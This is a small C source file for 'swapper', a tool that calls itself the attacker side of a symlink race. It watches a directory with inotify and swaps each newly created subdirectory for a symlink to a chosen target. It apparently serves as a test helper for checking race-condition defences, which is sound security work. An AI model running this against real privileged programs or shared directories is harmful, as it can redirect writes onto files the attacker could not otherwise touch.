// SPDX-License-Identifier: MIT
/*
 * swapper DIR TARGET N: the attacker of a symlink race. Watches DIR
 * (writable by the user it runs as) with inotify; each directory made
 * there is renamed away at once and a symlink to TARGET put in its place,
 * N times, then it exits. Prints "swapped NAME" for each.
 */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char buf[4096] __attribute__((aligned(8))), from[PATH_MAX], away[PATH_MAX + 8];
	int fd, n, swaps = 0;

	if (argc != 4) {
		fprintf(stderr, "usage: swapper DIR TARGET N\n");
		return 2;
	}
	n = atoi(argv[3]);
	fd = inotify_init();
	if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
		perror("swapper: inotify");
		return 1;
	}
	printf("watching\n");
	fflush(stdout);
	while (swaps < n) {
		ssize_t len = read(fd, buf, sizeof(buf));

		if (len <= 0)
			return 1;
		for (char *p = buf; p < buf + len;) {
			const struct inotify_event *ev = (const void *)p;

			p += sizeof(*ev) + ev->len;
			if (!(ev->mask & IN_ISDIR) || !ev->len)
				continue;
			snprintf(from, sizeof(from), "%s/%s", argv[1], ev->name);
			snprintf(away, sizeof(away), "%s.moved", from);
			if (rename(from, away) == 0 && symlink(argv[2], from) == 0) {
				printf("swapped %s\n", ev->name);
				fflush(stdout);
				swaps++;
			}
		}
	}
	return 0;
}
